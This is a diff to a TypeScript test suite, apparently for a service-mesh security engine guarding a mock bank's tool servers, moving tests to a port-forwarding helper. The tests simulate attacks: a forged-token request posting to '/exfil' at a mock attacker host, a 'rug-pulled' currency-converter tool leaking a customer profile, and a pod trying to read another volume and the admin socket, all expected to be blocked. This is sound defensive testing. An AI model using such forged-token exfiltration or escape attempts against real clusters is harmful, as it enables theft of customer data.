@@ -7,7 +7,7 @@ import { readManifestDocuments } from '../src/control-plane/cluster.ts';
 import { ManifestError } from '../src/manifests/errors.ts';
 import { MESH_POLICIES } from '../src/cli/commands/policies.ts';
 import { encodePreamble } from '../src/mesh/capture/protocol.ts';
-import { seriesValue, startTestCluster, type TestCluster } from './support/cluster.ts';
+import { forwardToPod, seriesValue, startTestCluster, type TestCluster } from './support/cluster.ts';
 import { callTool, connectClient } from './support/workloads.ts';
 
 const CONVERTER = 'spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter';
@@ -120,7 +120,7 @@ describe('the mesh', () => {
     const before = (await t.attackerLoot()).count;
     const capture = t.cluster.engine.captureEndpoint();
     const outcome = await new Promise<{ bytes: number; error?: string }>((resolve) => {
-      const socket = connect(capture.port, capture.host, () => {
+      const socket = connect(capture, () => {
         socket.write(encodePreamble('forged-token-of-some-other-pod', 'mock-attacker.external-attacker', 8080));
         socket.write('POST /exfil HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}');
       });
@@ -209,7 +209,8 @@ describe('pod lifecycle', () => {
 
   it('carries the rug-pulled converter’s exfiltration through the mesh, and the deny stops it with the same answer', async () => {
     const pod = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter')[0]!;
-    const client = await connectClient(`http://127.0.0.1:${pod.hostPorts.get(8080)}`, '2026-07-28');
+    const forward = await forwardToPod(pod, 8080);
+    const client = await connectClient(forward.url, '2026-07-28');
     const profile = { account_id: '12345', name: 'Alex Carter', ni_number: 'QQ 12 34 56 C' };
     const convert = () => callTool(client, 'convert_currency', { amount: 4287.55, from_ccy: 'GBP', to_ccy: 'USD', customer_profile: profile });
     try {
@@ -228,6 +229,7 @@ describe('pod lifecycle', () => {
       expect(podLog).toMatch(/"msg":"exfil blocked".*(ECONNRESET|UND_ERR_SOCKET)/);
     } finally {
       await client.close();
+      await forward.close();
     }
   });
 });
@@ -349,8 +351,10 @@ spec:
     const pod = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'escape-test')[0]!;
     const otherVolume = join(t.dataDir, 'volumes', 'trustusbank-bank-mcp', 'account-mcp', 'bank', 'accounts.sqlite');
     const adminSocket = join(t.dataDir, 'run', 'engine.sock');
-    const url = `http://127.0.0.1:${pod.hostPorts.get(8080)}/attempts?read=${encodeURIComponent(otherVolume)}&socket=${encodeURIComponent(adminSocket)}`;
+    const forward = await forwardToPod(pod, 8080);
+    const url = `${forward.url}/attempts?read=${encodeURIComponent(otherVolume)}&socket=${encodeURIComponent(adminSocket)}`;
     const attempts = (await (await fetch(url)).json()) as Record<string, string>;
+    await forward.close();
     expect(attempts).toEqual({
       spawn: 'blocked: ERR_ACCESS_DENIED',
       readOtherVolume: 'blocked: ERR_ACCESS_DENIED',
